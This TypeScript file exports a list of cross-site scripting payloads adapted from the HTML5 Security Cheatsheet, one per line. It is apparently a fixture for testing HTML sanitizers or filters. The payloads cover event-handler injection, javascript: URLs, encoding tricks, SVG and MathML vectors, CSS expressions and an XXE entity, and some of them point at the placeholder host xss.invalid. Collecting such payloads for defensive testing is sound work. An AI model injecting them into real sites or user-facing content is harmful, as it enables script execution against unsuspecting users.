import { lines } from './lines.ts';

/** After the HTML5 Security Cheatsheet (html5sec.org), one payload a line. */
export const html5sec: readonly string[] = lines(`
<form id="test"></form><button form="test" formaction="javascript:alert(1)">X</button>
<meta charset="x-imap4-modified-utf7">&ADz&AGn&AG0&AEf&ACA&AHM&AHI&AGO&AD0&AGn&ACA&AG8Abg&AGUAcgByAG8AcgA9AGEAbABlAHIAdAAoADEAKQ&ACAAPABi
<meta charset="x-imap4-modified-utf7">&<script&S1&TS&1>alert&A7&(1)&R&UA;&&<&A9&11/script&X&>
0?<script>Worker("#").onmessage=function(_)eval(_.data)</script> :postMessage(importScripts('data:;base64,cG9zdE1lc3NhZ2UoJ2FsZXJ0KDEpJyk'))
<script>crypto.generateCRMFRequest('CN=0',0,0,null,'alert(1)',384,null,'rsa-dual-use')</script>
<script>({set/**/$($){_/**/setter=$,_=1}}).$=alert</script>
<input onfocus=write(1) autofocus>
<input onblur=write(1) autofocus><input autofocus>
<a style="-o-link:'javascript:alert(1)';-o-link-source:current">X</a>
<video poster=javascript:alert(1)//></video>
<svg xmlns="http://www.w3.org/2000/svg"><g onload="javascript:alert(1)"></g></svg>
<body onscroll=alert(1)><br><br><br><br><br><br><br><br><input autofocus>
<x repeat="template" repeat-start="999999">0<y repeat="template" repeat-start="999999">1</y></x>
<input pattern=^((a+.)a)+$ value=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!>
<script>({0:#0=alert/#0#/#0#(0)})</script>
X<x style=behavior:url(#default#time2) onbegin=alert(1) >
<?xml-stylesheet href="javascript:alert(1)"?><root/>
<script xmlns="http://www.w3.org/1999/xhtml">&#x61;l&#x65;rt&#40;1)</script>
<meta charset="x-mac-farsi">¼script ¾alert(1)//¼/script ¾
<script>ReferenceError.prototype.__defineGetter__('name', function(){alert(1)}),x</script>
<script>Object.__noSuchMethod__ = Function,[{}][0].constructor._('alert(1)')()</script>
<input onblur=focus() autofocus><input>
<form id=test onforminput=alert(1)><input></form><button form=test onformchange=alert(2)>X</button>
1<set/xmlns="urn:schemas-microsoft-com:time" style="beh&#x41vior:url(#default#time2)" attributename="innerhtml" to="&lt;img/src=&quot;x&quot;onerror=alert(1)&gt;">
<script src="#">{alert(1)}</script>;1
+ADw-html+AD4APA-body+AD4APA-div+AD4-top secret+ADw-/div+AD4APA-/body+AD4APA-/html+AD4-.toXMLString().match(/.*/m),alert(RegExp.input);
<style>p[foo=bar{}*{-o-link:'javascript:alert(1)'}{}*{-o-link-source:current}*{background:red}]{background:green};</style>
<link rel=stylesheet href=data:,*%7bx:expression(write(1))%7d
<style>@import "data:,*%7bx:expression(write(1))%7D";</style>
<frameset onload=alert(1)>
<table background="javascript:alert(1)"></table>
<a style="pointer-events:none;position:absolute;"><a style="position:absolute;" onclick="alert(1);">XXX</a></a><a href="javascript:alert(2)">XXX</a>
1<vmlframe xmlns=urn:schemas-microsoft-com:vml style=behavior:url(#default#vml);position:absolute;width:100%;height:100% src=test.vml#xss></vmlframe>
1<a href=#><line xmlns=urn:schemas-microsoft-com:vml style=behavior:url(#default#vml);position:absolute href=javascript:alert(1) strokecolor=white strokeweight=1000px from=0 to=1000 /></a>
<a style="behavior:url(#default#AnchorClick);" folder="javascript:alert(1)">XXX</a>
<!--<img src="--><img src=x onerror=alert(1)//">
<comment><img src="</comment><img src=x onerror=alert(1)//">
<!-- up to Opera 11.52, FF 3.6.28 --><![><img src="]><img src=x onerror=alert(1)//">
<svg><![CDATA[><image xlink:href="]]><img src=xx:x onerror=alert(2)//"></svg>
<style><img src="</style><img src=x onerror=alert(1)//">
<li style=list-style:url() onerror=alert(1)></li>
<div style=content:url(data:image/svg+xml,%3Csvg/%3E);visibility:hidden onload=alert(1)></div>
<head><base href="javascript://"/></head><body><a href="/. /,alert(1)//#">XXX</a></body>
<SCRIPT FOR=document EVENT=onreadystatechange>alert(1)</SCRIPT>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></embed>
<b <script>alert(1)//</script>0</script></b>
<div id="div1"><input value="XX"onmouseover=alert(1)"></div><div id="div2"></div><script>document.getElementById("div2").innerHTML=document.getElementById("div1").innerHTML;</script>
<x '="foo"><x foo='><img src=x onerror=alert(1)//'>
<embed src="javascript:alert(1)"></embed>
<img src="javascript:alert(1)">
<image src="javascript:alert(1)">
<script src="javascript:alert(1)"></script>
<!DOCTYPE x[<!ENTITY x SYSTEM "http://xss.invalid/test.xxe">]><y>&x;</y>
<svg onload="javascript:alert(1)" xmlns="http://www.w3.org/2000/svg"></svg>
<?xml version="1.0"?><x:template xmlns:x="http://www.wapforum.org/2001/wml" x:ontimer="$(x:unesc)j$(y:escape)a$(z:noecs)v$(x)a$(y)s$(z)cript$x:alert(1)"><x:timer value="1"/></x:template>
<x style="behavior:url(test.sct)">
<xml id="xss" src="test.htc"></xml><label dataformatas="html" datasrc="#xss" datafld="payload"></label>
<event-source src="event.php" onload="alert(1)">
<a href="javascript:alert(1)"><event-source src="data:application/x-dom-event-stream,Event:click%0Adata:XXX%0A%0A" /></a>
<script<{alert(1)}/></script </>
<?xml-stylesheet type="text/css"?><!DOCTYPE x SYSTEM "test.dtd"><x>&x;</x>
<?xml-stylesheet type="text/css"?><root style="x:expression(write(1))"/>
<?xml-stylesheet type="text/xsl" href="#"?><img xmlns="x-schema:test.xdr"/>
<object allowscriptaccess="always" data="test.swf"></object>
<style>*{x:ＥＸＰＲＥＳＳＩＯＮ(write(1))}</style>
<x xmlns:xlink="http://www.w3.org/1999/xlink" xlink:actuate="onLoad" xlink:href="javascript:alert(1)" xlink:type="simple"/>
<?xml-stylesheet type="text/css" href="data:,*%7bx:expression(write(2));%7d"?>
<x:template xmlns:x="http://www.wapforum.org/2001/wml" x:ontimer="$(x:unesc)j$(y:escape)a">
<x xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load" ev:handler="javascript:alert(1)//#x"/>
<x xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load" ev:handler="test.evt#x"/>
<body oninput=alert(1)><input autofocus>
<svg xmlns="http://www.w3.org/2000/svg"><a xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:alert(1)"><rect width="1000" height="1000" fill="white"/></a></svg>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><animation xlink:href="javascript:alert(1)"/><animation xlink:href="data:text/xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'%3E%3C/svg%3E"/></svg>
<svg xmlns="http://www.w3.org/2000/svg"><set attributeName="onmouseover" to="alert(1)"/><animate attributeName="onunload" to="alert(1)"/></svg>
<div style=width:1px;filter:glow onfilterchange=alert(1)>x</div>
<? foo="><script>alert(1)</script>">
<! foo="><script>alert(1)</script>">
</ foo="><script>alert(1)</script>">
<? foo="><x foo='?><script>alert(1)</script>'>">
<! foo="[[[x]]"><x foo="]foo><script>alert(1)</script>">
<% foo><x foo="%><script>alert(1)</script>">
<div id=d><x xmlns="><iframe onload=alert(1)"></div><script>d.innerHTML=d.innerHTML</script>
<img[a][b]src=x[d]onerror[c]=[e]"alert(1)">
<a href="[a]java[b]script[c]:alert(1)">XXX</a>
<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>
<applet code="javascript:alert(1)"></applet>
<form><input name=parentNode><input name=attributes><img src=x onerror=alert(1)></form>
<img src=1 srcset="x,javascript:alert(1) 2x" onerror=alert(1)>
<video><source onerror="alert(1)"></video>
<video onerror="alert(1)"><source></source></video>
<video src=x onerror=alert(1) autoplay></video>
<audio src=x onerror=alert(1)>
<b/alt="1"onmouseover=InputBox+1 language=vbs>test</b>
<iframe srcdoc="<svg onload=alert(1)&nbsp;>"></iframe>
<iframe srcdoc="&LT;iframe&sol;srcdoc=&amp;lt;img&sol;src=&amp;apos;&amp;apos;onerror=alert&amp;lpar;1&amp;rpar;&amp;gt;>">
<iframe sandbox="allow-same-origin allow-forms allow-scripts" src="http://xss.invalid/"></iframe>
<details open ontoggle="alert(1)"><summary>x</summary></details>
<dialog open onclose=alert(1)><form method=dialog><button>X</button></form></dialog>
<marquee onstart=alert(1) behavior=slide>x</marquee>
<keygen autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)><option>x</select>
<textarea autofocus onfocus=alert(1)>x</textarea>
<menu id=x contextmenu=x onshow=alert(1)>right click me!
<link rel=import href="data:text/html,<script>alert(1)</script>">
<link rel=prefetch href="http://xss.invalid/prefetch">
<link rel=preload as=script href="http://xss.invalid/preload.js">
<link rel=dns-prefetch href="//xss.invalid">
<link rel=modulepreload href="http://xss.invalid/module.js">
<object data="http://xss.invalid/x" onerror=alert(1)></object>
<svg><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"></iframe></foreignObject></svg>
<math href="javascript:alert(1)">CLICKME</math>
<math><maction actiontype="statusline#http://xss.invalid" xlink:href="javascript:alert(1)">CLICKME</maction></math>
<math xlink:href="javascript:alert(1)" xmlns:xlink="http://www.w3.org/1999/xlink">x</math>
<div draggable=true ondragstart=alert(1)>drag</div>
<p contenteditable onpaste=alert(1) oncut=alert(1)>x</p>
<a href="x" ping="http://xss.invalid/ping">x</a>
<a href=x download="evil.html" onfocus=alert(1) autofocus>x</a>
<q/oncut=open()>x
<div onpointerover=alert(1)>x</div>
<p ontouchstart=alert(1)>x</p>
<button popovertarget=x>x</button><div popover id=x onbeforetoggle=alert(1)>y</div>
<form action="javascript:alert(1)"><input type=submit></form>
<isindex action="javascript:alert(1)" type=image>
`);
